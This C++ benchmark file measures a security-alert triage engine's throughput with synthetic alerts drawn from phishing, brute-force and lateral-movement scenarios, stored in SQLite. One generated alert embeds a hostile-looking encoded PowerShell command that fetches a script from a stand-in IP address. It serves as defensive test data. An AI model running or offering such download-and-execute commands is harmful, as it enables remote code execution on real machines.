// Deterministic triage throughput: mixed alerts through the whole pipeline into SQLite.
#include <benchmark/benchmark.h>
#include <fmt/format.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <random>
#include <sstream>

#include "engine/engine.hpp"

namespace {

namespace fs = std::filesystem;

std::string slurp(const fs::path& p) {
  std::ifstream in(p, std::ios::binary);
  std::stringstream s;
  s << in.rdbuf();
  return s.str();
}

// One context holding the three reference scenarios' inventory, events, history and intel.
fs::path merged_context(const fs::path& examples, const fs::path& out) {
  fs::remove_all(out);
  fs::create_directories(out);
  const char* scenarios[] = {"scenario-1-phishing-attachment", "scenario-2-ssh-brute-force",
                             "scenario-3-lateral-movement"};
  std::ofstream events(out / "events.jsonl"), history(out / "history.jsonl"),
      facts(out / "host_facts.csv");
  facts << "host,key,value\n";
  for (const char* s : scenarios) {
    const fs::path ctx = examples / s / "context";
    fs::copy(ctx / "assets.csv", out / "assets.csv", fs::copy_options::overwrite_existing);
    fs::copy(ctx / "identities.csv", out / "identities.csv", fs::copy_options::overwrite_existing);
    events << slurp(ctx / "events.jsonl");
    if (fs::exists(ctx / "history.jsonl")) history << slurp(ctx / "history.jsonl");
    std::string f = slurp(ctx / "host_facts.csv");
    facts << f.substr(f.find('\n') + 1);
    if (fs::exists(ctx / "intel"))
      fs::copy(ctx / "intel", out / "intel",
               fs::copy_options::recursive | fs::copy_options::overwrite_existing);
  }
  return out;
}

// Alerts of every category, with addresses, hosts and users drawn from realistic pools.
std::vector<soc::InputRecord> make_alerts(const fs::path& examples, std::size_t count) {
  const std::string templates[] = {
      slurp(examples / "scenario-1-phishing-attachment/alert.json"),
      slurp(examples / "scenario-2-ssh-brute-force/alert.json"),
      slurp(examples / "scenario-3-lateral-movement/alert.json"),
  };
  const char* hosts[] = {"WKS-MARKETING-07", "WKS-FIN-01", "WKS-IT-02", "srv-web-prod-01",
                         "SRV-FILE-01"};
  std::mt19937 rng(42);
  std::vector<soc::InputRecord> out;
  out.reserve(count);
  simdjson::dom::parser parser;
  for (std::size_t i = 0; i < count; ++i) {
    const int kind = static_cast<int>(i % 5);
    const std::string time = soc::format_time(soc::parse_time("2026-03-01T00:00:00Z").value() +
                                              static_cast<soc::TimestampMs>(i) * 2000);
    std::string json;
    if (kind < 3) {
      json = templates[kind];
      // Fresh id and time; for brute force a source from a pool of 500 addresses.
      auto replace = [&](const std::string& from, const std::string& to) {
        for (auto pos = json.find(from); pos != std::string::npos;
             pos = json.find(from, pos + to.size()))
          json.replace(pos, from.size(), to);
      };
      replace("\"kibana.alert.uuid\": \"", fmt::format("\"kibana.alert.uuid\": \"bench-{}-", i));
      // Every alert at its own time, two seconds apart, like a live feed.
      for (const char* t :
           {"2026-03-10T09:42:05.000Z", "2026-03-11T14:23:40.000Z", "2026-03-12T02:47:13.000Z"})
        replace(t, time);
      if (kind == 1 && i % 4)
        replace("185.220.101.34", fmt::format("203.0.{}.{}", (i / 250) % 2, i % 250));
    } else if (kind == 3) {
      json = fmt::format(
          R"({{"title":"Port scan detected","id":"bench-{}","timestamp":"{}","src_ip":"198.51.100.{}",)"
          R"("dst_ip":"10.20.0.15","severity":"low","description":"{} ports probed on {}"}})",
          i, time, i % 200, 100 + i % 900, hosts[i % 5]);
    } else {
      json = fmt::format(
          R"({{"@timestamp":"{}","kibana.alert.uuid":"bench-{}","kibana.alert.rule.name":)"
          R"("Suspicious PowerShell execution","kibana.alert.severity":"medium","event":{{"category":["process"]}},)"
          R"("host":{{"name":"{}"}},"user":{{"name":"a.martin"}},"process":{{"name":"powershell.exe",)"
          R"("command_line":"powershell.exe -nop -enc SQBFAFgA http://198.51.100.{}/a.ps1"}}}})",
          time, i, hosts[(i / 5) % 5], i % 250);
    }
    out.push_back(soc::InputRecord{fmt::format("bench:{}", i), soc::RecordKind::kJson,
                                   std::move(json), std::nullopt});
  }
  return out;
}

// with_store: the SQLite store of the product's default (file, WAL, synchronous=FULL, batches
// of 1,000); without: the engine alone, to show what the store costs.
void run_mixed(benchmark::State& state, bool with_store) {
  const fs::path root = fs::path(SOC_TRIAGE_SHARED_DIR).parent_path() / "main";
  const fs::path examples = fs::path(__FILE__).parent_path().parent_path() / "examples";
  const fs::path tmp = fs::temp_directory_path() / "soc-triage-bench";
  soc::Config config;
  config.context_dir = merged_context(examples, tmp / "context").string();
  config.store.path = (tmp / "bench.db").string();
  fs::remove(config.store.path);
  fs::remove(config.store.path + "-wal");
  auto kb = soc::load_knowledge(config);
  if (!kb) {
    state.SkipWithError(kb.error().message.c_str());
    return;
  }
  soc::SystemClock clock;
  soc::SqliteOptions options;
  options.path = config.store.path;
  // Knobs for comparing store settings (bench/README.md); the defaults are the product's.
  if (const char* codec = std::getenv("SOC_BENCH_COMPRESSION");
      codec && codec == std::string("zstd"))
    options.compression = soc::StoreCompression::kZstd;
  if (const char* level = std::getenv("SOC_BENCH_ZSTD_LEVEL"))
    options.compression_level = std::atoi(level);
  if (const char* page = std::getenv("SOC_BENCH_PAGE_SIZE")) options.page_size = std::atoi(page);
  if (std::getenv("SOC_BENCH_MEMORY")) options.path = ":memory:";
  if (std::getenv("SOC_BENCH_NORMAL")) options.synchronous_full = false;
  std::unique_ptr<soc::Store> store;
  if (with_store) {
    auto opened = soc::open_sqlite_store(options, clock);
    if (!opened) {
      state.SkipWithError(opened.error().message.c_str());
      return;
    }
    store = std::move(*opened);
  }
  auto intel = soc::load_intel(config, clock);
  if (!intel) {
    state.SkipWithError(intel.error().message.c_str());
    return;
  }
  soc::Engine engine(config, std::move(*kb), *intel, std::move(store), clock);
  if (!engine.prime()) {
    state.SkipWithError("prime failed");
    return;
  }
  const auto alerts = make_alerts(examples, static_cast<std::size_t>(state.max_iterations));
  std::size_t i = 0, bytes = 0, rejected = 0;
  for (auto _ : state) {
    const auto& record = alerts[i++ % alerts.size()];
    auto outcome = engine.triage(record);
    if (!outcome.decision) ++rejected;
    bytes += record.bytes.size();
    benchmark::DoNotOptimize(outcome);
  }
  if (!engine.flush()) state.SkipWithError("flush failed");
  state.SetItemsProcessed(static_cast<std::int64_t>(i));
  state.SetBytesProcessed(static_cast<std::int64_t>(bytes));
  state.counters["rejected"] = static_cast<double>(rejected);
  if (with_store && options.path != ":memory:")
    state.counters["db_MB"] = static_cast<double>(fs::file_size(config.store.path)) / 1e6;
  (void)root;
}

void BM_Triage_MixedWithSqlite(benchmark::State& state) {
  run_mixed(state, true);
}
void BM_Triage_MixedNoStore(benchmark::State& state) {
  run_mixed(state, false);
}
BENCHMARK(BM_Triage_MixedWithSqlite)
    ->Iterations(100000)
    ->Unit(benchmark::kMicrosecond)
    ->UseRealTime();
BENCHMARK(BM_Triage_MixedNoStore)->Iterations(100000)->Unit(benchmark::kMicrosecond)->UseRealTime();

}  // namespace

BENCHMARK_MAIN();
